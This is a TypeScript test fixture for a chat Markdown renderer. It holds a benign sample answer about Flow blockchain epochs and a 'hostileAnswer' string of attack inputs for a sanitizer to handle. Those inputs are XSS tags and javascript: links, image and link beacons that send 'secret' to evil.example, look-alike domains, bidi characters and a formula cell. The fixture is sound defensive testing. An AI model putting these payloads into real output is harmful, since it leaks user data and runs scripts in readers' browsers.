import { daysSql } from './chat-worlds.ts'

/** All supported Markdown elements. */
export const longAnswer = `# The epoch of Flow

An **epoch** is about *a week* of the chain. It has ~~two~~ three phases, and \`FlowEpoch\` keeps them. Accounts such as \`0x1654653399040a61\` and transactions such as \`${'ab'.repeat(32)}\` lead to the explorer.

## What happens in it

1. **Staking** is open: nodes may commit FLOW for the next epoch.
2. **Setup**: the random beacon of the next epoch is prepared.

   This takes some hours.
3. **Committed**: everything is known.

- The rewards are paid at its end
  - to nodes
  - to those who delegate to them
- [x] sealed
- [ ] open

> Rewards are what the contract pays, and not what a page promises.

### A table that is wide

| epoch | start | height | nodes | delegators | staked (FLOW) | rewards (FLOW) | paid to | moved |
| --- | --- | --- | --- | --- | --- | --- | --- | --- |
${Array.from({ length: 30 }, (_, i) => `| ${210 - i} | 2026-0${1 + (i % 9)}-14 | ${98_000_000 - i * 604_800} | ${431 + i} | ${(12_004 - i * 13).toLocaleString('en-US')} | ${(598_120_441.25 - i * 1000).toLocaleString('en-US')} | ${(1_312_001 - i * 77).toLocaleString('en-US')} | 0x1654653399040a61 | ${i % 3 === 0 ? '—' : `${i}.5%`} |`).join('\n')}

\`\`\`sql
${daysSql}
\`\`\`

\`\`\`cadence
import FlowEpoch from 0x8624b52f9ddcd04a

access(all) fun main(): UInt64 {
    // the counter of the current epoch
    return FlowEpoch.currentEpochCounter
}
\`\`\`

\`\`\`json
{ "epoch": 210, "phase": "staking" }
\`\`\`

---

Look at [the documentation](https://developers.flow.com/build) or https://developers.flow.com/networks. The next epoch begins at block \`98,765,432\`.
`

/** Untrusted text that an attacker might have a model write. */
export const hostileAnswer = `The token is called <img src=x onerror=alert(1)><script>alert(1)</script>.

![the balance](https://evil.example/pixel.png?q=secret) and ![](//evil.example/x.png) and ![own](/assets/x.png)

[the documentation](https://evil.example/?q=secret), [click](javascript:alert(1)), [mail](mailto:a@evil.example), [look-alike](https://dеvelopers.flow.com/), [user](https://developers.flow.com@evil.example/),
<https://evil.example/auto?q=1>, www.evil.example/www, https://developers.flow.com.evil.example/ and [good](https://developers.flow.com/).

[ref]: https://evil.example/ref

See [ref] and ![ref], and \u202Enekot\u202C with a hidden\u200B sign.

<iframe src="https://evil.example/frame"></iframe> <style>body { background: url(https://evil.example/css) }</style>

<a href="https://evil.example/html" onclick="alert(1)">raw</a>

| [a](https://evil.example/t) | ![b](https://evil.example/i) |
| --- | --- |
| \`A.1654653399040a61.FlowToken\` | =1+1 |
`
